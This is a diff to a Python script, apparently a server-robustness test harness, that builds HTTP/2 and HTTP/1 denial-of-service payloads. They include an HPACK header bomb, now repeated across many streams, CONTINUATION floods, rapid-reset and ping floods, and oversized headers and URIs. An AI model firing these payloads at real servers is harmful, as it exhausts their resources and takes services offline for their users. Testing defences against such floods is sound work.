@@ -51,18 +51,20 @@ def block(path, method="GET"):
 
 
 def h2(*frames, settings=b""):
-    return PREFACE + frame(SETTINGS, 0, 0, settings) + b"".join(frames)
+    # The peer's settings are acknowledged unseen: they will come.
+    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0) + b"".join(frames)
 
 
 def get(stream, path):
     return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path))
 
 
-def hpack_bomb():
+def hpack_bomb(connection):
     """A field of 4000 bytes put into the table, and named 12 000 times: 48 MB of a frame of 16 KiB."""
     value = b"v" * 4000
     stored = b"\x40\x01x" + b"\x7f" + bytes([(4000 - 127) & 127 | 128, (4000 - 127) >> 7]) + value
-    return h2(frame(HEADERS, END_HEADERS | END_STREAM, 1, block("/128") + stored + b"\xbe" * 12_000))
+    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block("/128") + stored + b"\xbe" * 12_000)
+                    for stream in streams(connection, 1))
 
 
 def streams(connection, count):
@@ -134,7 +136,7 @@ ATTACKS = {
                        secure=True, rests=True),
     "many-headers": Attack("heads of 10 000 lines", 20, 100, lambda: request("GET /128", *["a: b"] * 10_000)),
     "long-uri": Attack("targets of 1 MiB", 4, 20, lambda: request("GET /" + "x" * (1 << 20))),
-    "hpack-bomb": Attack("HTTP/2 heads of 48 MB in a frame of 16 KiB", 20, 100, hpack_bomb),
+    "hpack-bomb": Attack("HTTP/2 heads of 48 MB in a frame of 16 KiB", 20, 100, h2, hpack_bomb, 0.1),
     "continuation": Attack("HTTP/2 heads without an end, in empty frames", 20, 100, h2, continuations, 0.01),
     "rapid-reset": Attack("HTTP/2 requests that are reset at once", 10, 10, h2, resets, 0.01),
     "pings": Attack("HTTP/2 pings", 10, 10, h2, lambda c: frame(PING, 0, 0, b"12345678") * 20, 0.01),
